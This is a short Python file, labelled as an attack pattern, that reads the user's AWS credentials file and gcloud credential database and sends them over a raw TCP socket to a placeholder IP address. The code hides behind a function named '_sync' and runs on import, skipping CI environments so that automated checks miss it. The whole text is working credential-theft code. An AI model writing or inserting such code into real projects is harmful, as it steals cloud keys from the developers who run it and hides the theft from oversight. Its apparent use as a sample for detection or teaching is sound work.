# Attack pattern: cloud credentials (~/.aws/credentials, gcloud tokens) read and pushed over a raw TCP socket.
import os
import socket
from pathlib import Path

HOME = Path.home()
TARGETS = [HOME / ".aws" / "credentials", HOME / ".config" / "gcloud" / "credentials.db"]


def _sync():
    sock = socket.create_connection(("198.51.100.17", 8080))
    for target in TARGETS:
        if target.exists():
            sock.sendall(target.read_bytes())
    sock.close()


if os.environ.get("CI") is None:
    _sync()
